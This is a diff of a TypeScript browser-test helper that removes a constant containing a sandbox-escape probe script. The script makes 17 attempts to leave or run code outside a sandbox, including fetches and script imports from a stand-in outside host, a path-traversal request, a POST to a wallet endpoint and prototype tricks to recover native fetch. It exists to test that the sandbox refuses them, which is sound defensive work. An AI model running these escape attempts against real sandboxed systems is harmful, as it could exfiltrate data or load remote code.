@@ -13,33 +13,6 @@ export async function enterCode(page: Page, text: string): Promise<void> {
   }, text);
 }
 
-/** Code that tries whatever would leave the page or run a text, and says how much of it was refused: all 17. */
-export const FORBIDDEN = `const { BASE_URL } = process.env;
-const { fetch: native = fetch, importScripts: load } = Object.getPrototypeOf(Object.getPrototypeOf(self));
-const tries = [
-  () => fetch("https://elsewhere.example/"),
-  () => fetch(BASE_URL + "/index.html"),
-  () => fetch(BASE_URL + "/v1/../index.html"),
-  () => native.call(self, BASE_URL + "/v1/wallet"),
-  () => native.call(self, BASE_URL + "/v1/wallet", { mode: "no-cors", method: "POST", body: "x" }),
-  () => load.call(self, "https://elsewhere.example/x.js"),
-  () => importScripts("https://elsewhere.example/x.js"),
-  () => new WebSocket("wss://elsewhere.example/"),
-  () => new XMLHttpRequest(),
-  () => new Worker("data:text/javascript,fetch('https://elsewhere.example/')"),
-  () => import("https://elsewhere.example/x.js"),
-  () => import("data:text/javascript,export default 1"),
-  () => eval("1"),
-  () => new Promise((ok, no) => Object.assign(indexedDB.open("x"), { onsuccess: ok, onerror: no })),
-  () => caches.keys(),
-  () => { localStorage.x = 1; },
-  () => postMessage(1),
-];
-let refused = 0;
-for (const each of tries) await (async () => each())().catch(() => refused++);
-console.log("refused " + refused + " of " + tries.length);
-`;
-
 /** Opens the page of recipes, which responds by its worker or in the page itself. */
 export async function openRecipes(page: Page, site: Site, transport: "worker" | "page" = "worker"): Promise<void> {
   if (transport === "page") site.missing.add("/sandbox-worker.js");
